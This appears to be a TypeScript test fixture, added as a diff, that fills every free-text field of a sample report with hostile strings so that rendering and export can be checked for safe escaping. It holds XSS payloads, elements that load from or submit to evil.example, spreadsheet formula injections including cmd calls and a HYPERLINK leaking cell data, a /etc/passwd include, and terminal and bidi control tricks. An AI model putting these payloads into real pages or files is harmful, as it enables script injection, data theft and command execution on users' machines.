@@ -1,0 +1,281 @@
+/**
+ * Reports in which everything that a person or a file could have written is hostile. The schema holds for every
+ * one of them: what it leaves free is hostile, what it fixes (ids of elements and practices, dates, states) is
+ * that of the example.
+ */
+import { readFileSync } from 'node:fs';
+import { parse } from 'yaml';
+import type { ElementResult, Move, QuestionResult, ReportDocument } from '#domain/types/report.ts';
+import { hostileTexts as hostileToChecks } from '../check/hostile-report.ts';
+
+const ownTexts: readonly (readonly [name: string, text: string])[] = [
+  ['script tags', '<script>alert(1)</script><script src=//evil.example/x.js></script>'],
+  ['event handlers', '<img src=x onerror=alert(1)><svg onload=alert(1)><details open ontoggle=alert(1)>x'],
+  ['attributes', `" onmouseover="alert(1)" style="position:fixed;inset:0" x=' autofocus onfocus='alert(1)`],
+  ['a javascript: address', 'javascript:alert(1)'],
+  ['an address in disguise', ' JaVa\tScRiPt:alert(1)//https://evil.example'],
+  ['a data: address', 'data:text/html,<script>alert(1)</script>'],
+  [
+    'an address that breaks out',
+    `https://evil.example/)"><img/src=x/onerror=alert(1)>[x](y)|\`\\*_~$&lt;'{}`,
+  ],
+  ['an address with a name in it', 'https://bank.example@evil.example/'],
+  [
+    'elements',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe><style>*{display:none}</style><base href=//evil.example>' +
+      '<meta http-equiv=refresh content="0;url=//evil.example"><form action=//evil.example><button>x</button></form>',
+  ],
+  [
+    'ends',
+    '--> ]]> </title></style></script></textarea></summary></details></svg><script>alert(1)</script><!--',
+  ],
+  [
+    'entities',
+    '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt; &nbsp;&copy',
+  ],
+  [
+    'templates',
+    '{{7*7}} ${alert(1)} {count} {name} {score} %s %d %{project_name} \\u003cscript\\u003e \\n $& $1',
+  ],
+  ['a page of Markdown', markdownPage()],
+  ['a table of Markdown', '| a | b |\n| --- | --- |\n| c | d |\n\\| \\\\| \\\\\\| ` | `` | a\\'],
+  [
+    'references',
+    '@everyone @org/team #123 !456 GH-1 PROJ-12 user/repo#1 user/repo@a5c3785ed8d6a35868bc169f07e40e889087fd2e ' +
+      '0a5c3785ed8d6a35868bc169f07e40e889087fd2e %milestone %"big one" ~label ~"two words" $123 &epic &42 ^alert#1 ' +
+      '[issue:1] [[_TOC_]] [[wiki page]] [!NOTE] :smile: :+1: www.evil.example a@evil.example https://evil.example ' +
+      'ftp://evil.example mailto:a@evil.example CVE-2020-1234 GHSA-aaaa-bbbb-cccc {+in+} [-out-] closes #1',
+  ],
+  ['formulas of TeX', '$x^2$ $$y$$ $`z`$ $5 and $6 ```math\nx\n``` \\(a\\) \\[b\\]'],
+  ['orders to a forge', '/close\n/assign @root\n::include{file=/etc/passwd}\n>>>\nquoted\n>>>\n/label ~x'],
+  ['front matter', '---\ntitle: pwned\n---\n# pwned'],
+  ['a footnote', 'x[^1]\n\n[^1]: pwned\n\n[pwned]: javascript:alert(1)\n\n[pwned]'],
+  ['a formula', `=cmd|' /C calc'!A0`],
+  ['a formula with a link', '=HYPERLINK("https://evil.example?x="&A1,"click")'],
+  ['a formula behind a plus', `+1+cmd|' /C calc'!A0`],
+  ['a formula behind a minus', `-2+3+cmd|' /C calc'!A0`],
+  ['a formula behind an at', '@SUM(A1:A9)'],
+  ['a formula behind a tab', '\t=1+1'],
+  ['a formula behind a return', '\r=1+1'],
+  ['a formula in full width', '＝1+1'],
+  ['formulas in the middle', '",=1+1,"\nfine;=1+1\t=1+1\r\n=1+1\n;@SUM(A1)'],
+  ['a number to keep', '007'],
+  ['a number with an exponent', '1e5'],
+  ['a date', '3-4'],
+  [
+    'a terminal',
+    '\u001b[31mred\u001b[2J\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007\u009b2J\u0008\u0000\u007f',
+  ],
+  ['bidi controls', '\u202egnp.exe\u202c \u2066isolated\u2069 \u200fmark\u061c'],
+  ['what nobody sees', 'zero\u200bwidth\u200d \u2060\ufeff soft\u00adhyphen \u3164\u115f \u{e0041}\u{e007f}'],
+  ['Hebrew and Arabic', 'שלום עולם, מערכת המכירות 2026 (חדש)! مرحبا بالعالم، ٤٢ بائعًا'],
+  [
+    'Chinese and Japanese',
+    '御社の販売体制はどれほど完成していますか。我们的销售流程没有人遵守，｜＜＞＆'.repeat(6),
+  ],
+  ['signs on signs', `Z${'\u0335\u0361\u0489'.repeat(40)}algo 👩‍👩‍👧‍👦👍🏽🇩🇪 e\u0301`],
+  ['halves of characters', '\ud800 lone \udfff\udbff'],
+  ['names of every object', '__proto__'],
+  ['many lines', 'One of many lines that a person wrote.\n'.repeat(256)],
+  ['many signs', '<'.repeat(10_000)],
+];
+
+function markdownPage(): string {
+  return [
+    '# heading',
+    'Title',
+    '===',
+    '---',
+    '***',
+    '> quote',
+    '- [x] task',
+    '1. list',
+    '+ list',
+    '    indented',
+    '\tindented',
+    '```js',
+    'code',
+    '~~~',
+    '**bold** __bold__ *em* _em_ ~~gone~~ `code` ==mark==',
+    '[x](javascript:alert(1)) ![i](https://evil.example/p.png) <https://evil.example> <a@evil.example>',
+    '[r]: https://evil.example',
+    '',
+    '<b>bold</b>',
+    '',
+    '</details>',
+    '',
+    '<summary>pwned</summary>',
+    'hard  ',
+    'break\\',
+    'end',
+  ].join('\n');
+}
+
+/** Texts that try to break out of a format, to run, to hide or to spill, by name. Those of `check` are among them. */
+export const hostileTexts: readonly (readonly [name: string, text: string])[] = [
+  ...ownTexts,
+  ...hostileToChecks.map((text, index) => [`text ${index + 1} of check`, text] as const),
+];
+
+const example = parse(
+  readFileSync(new URL('../../../examples/harbor-instruments/report.yaml', import.meta.url), 'utf8'),
+) as ReportDocument;
+
+/** Keys whose text the schema fixes: words of a list, dates, digests, and ids with a pattern. */
+const fixed: ReadonlySet<string> = new Set(
+  (
+    'kind name:generator asOf digest role scope status state severity move bestAnsweredBy date element practice block ' +
+    'reason blockedBy neglected unknown weakest id:elements id:blocks id:practices id:patterns'
+  ).split(' '),
+);
+
+/** The most characters that the schema allows in a text, by its key. Elsewhere there is no limit. */
+const mostCharacters: Readonly<Record<string, number>> = {
+  'name:organization': 300,
+  respondent: 300,
+  revenue: 300,
+  profit: 300,
+  share: 300,
+  seenBy: 300,
+  what: 2_000,
+  ref: 2_000,
+};
+
+/** Fields that the schema wants to hold something. */
+const neverEmpty: ReadonlySet<string> = new Set(['name:organization', 'respondent', 'seenBy', 'what', 'ref']);
+
+/** Texts that nothing limits stay below this, so that a report stays of a size that someone could have. */
+const enough = 400;
+
+const unlimited: ReadonlySet<string> = new Set(['note', 'closing', 'first', 'again', 'spread']);
+
+function cut(text: string, key: string, named: string): string {
+  const most = unlimited.has(key) ? 10_000 : (mostCharacters[named] ?? mostCharacters[key] ?? enough);
+  const short = text.length <= most ? text : [...text].slice(0, most).join('');
+  return short === '' && (neverEmpty.has(key) || neverEmpty.has(named) || mostCharacters[key] === 300)
+    ? ' '
+    : short;
+}
+
+/** What a text is replaced with, by its key and that of what it stands in. */
+type TextFor = (key: string, named: string) => string;
+
+/** The value with every free text in it replaced. Lists and maps keep their shape. */
+function saying(
+  value: unknown,
+  textFor: TextFor,
+  ids: (id: string) => string,
+  path: readonly string[],
+): unknown {
+  const key = path.at(-1) ?? '';
+  if (Array.isArray(value)) return value.map((item) => saying(item, textFor, ids, path));
+  if (typeof value === 'object' && value !== null)
+    return Object.fromEntries(
+      Object.entries(value).map(([name, part]) => [name, saying(part, textFor, ids, [...path, name])]),
+    );
+  if (typeof value !== 'string') return value;
+  const named = `${key}:${path.at(-2) ?? ''}`;
+  if (named === 'id:questions' || key === 'question') return ids(value);
+  return fixed.has(key) || fixed.has(named) ? value : textFor(key, named);
+}
+
+const without = (question: QuestionResult, state: QuestionResult['state']): QuestionResult => ({
+  ...question,
+  state,
+  level: null,
+  shownLevel: null,
+  answer: null,
+  note: 'A note.',
+  ...(state === 'not-applicable' && { reason: 'out-of-scope' }),
+});
+
+/** The example with each state of an answer, each kind of move, and every optional field. */
+function fullReport(): ReportDocument {
+  const [first, ...others] = example.elements;
+  const [practice, ...practices] = first?.practices ?? [];
+  const [question, second, third = second, ...questions] = [
+    ...(practice?.questions ?? []),
+    ...(practices.at(-1)?.questions ?? []),
+  ];
+  const [close] = example.plan.now;
+  if (!first || !practice || !question || !second || !third || !close)
+    throw new Error('The example has too little in it.');
+  const evidence = {
+    kind: 'artifact',
+    date: '2026-01-02',
+    what: 'A list',
+    ref: 'docs/list.md',
+    seenBy: 'Ana',
+    stale: true,
+  } as const;
+  const element: ElementResult = {
+    ...first,
+    practices: [
+      {
+        ...practice,
+        questions: [
+          without(question, 'unknown'),
+          without(second, 'not-applicable'),
+          { ...without(third, 'unanswered'), id: `${third.id}-open` },
+          { ...question, id: `${question.id}-shown`, note: 'A note.', evidence: [evidence, evidence] },
+          ...questions.map((each) => ({ ...each, id: `${each.id}-more` })),
+        ],
+      },
+      ...practices,
+    ],
+  };
+  const about = { element: first.id, practice: practice.id, name: practice.name, because: 'For a reason.' };
+  const ask = [{ question: question.id, ask: question.ask, bestAnsweredBy: 'seller' }] as const;
+  const attach = [{ question: question.id, kind: 'artifact', what: 'A list' }] as const;
+  const now: Move[] = [
+    close,
+    { ...about, move: 'find-out', practice: null, ask: [...ask] },
+    { ...about, move: 'prove', attach: [...attach] },
+  ];
+  return {
+    ...example,
+    summary: { ...example.summary, unknown: [], provisional: true },
+    elements: [element, ...others],
+    patterns: example.patterns.map((pattern) => ({ ...pattern, sources: ['A study.'] })),
+    plan: { ...example.plan, now },
+    opening: { first: 'First.', again: 'Again.' },
+    closing: 'Closing.',
+  };
+}
+
+const full = fullReport();
+
+/** A valid report with every free text replaced. Ids of questions stay what they are to each other. */
+function reportWith(textFor: TextFor): ReportDocument {
+  const ids = new Map<string, string>();
+  const idOf = (id: string): string => {
+    const known = ids.get(id) ?? `${textFor('id', 'id:questions')} ${ids.size + 1}`;
+    ids.set(id, known);
+    return known;
+  };
+  return saying(full, textFor, idOf, []) as ReportDocument;
+}
+
+/** A valid report that says this text wherever it can say anything. */
+export function reportSaying(text: string): ReportDocument {
+  return reportWith((key, named) => cut(text, key, named));
+}
+
+/** A valid report in which every text differs from every other, and those texts with the keys that they stand under. */
+export function reportOfDifferentTexts(): {
+  readonly report: ReportDocument;
+  readonly texts: readonly { readonly text: string; readonly key: string }[];
+} {
+  const texts: { text: string; key: string }[] = [];
+  const report = reportWith((_key, named) => {
+    const text = `Text${texts.length}.`;
+    texts.push({ text, key: named });
+    return text;
+  });
+  return { report, texts };
+}
+
+/** A report for each of the texts, by the name of the text. */
+export const hostileReports: readonly (readonly [name: string, report: ReportDocument])[] = hostileTexts.map(
+  ([name, text]) => [name, reportSaying(text)] as const,
+);
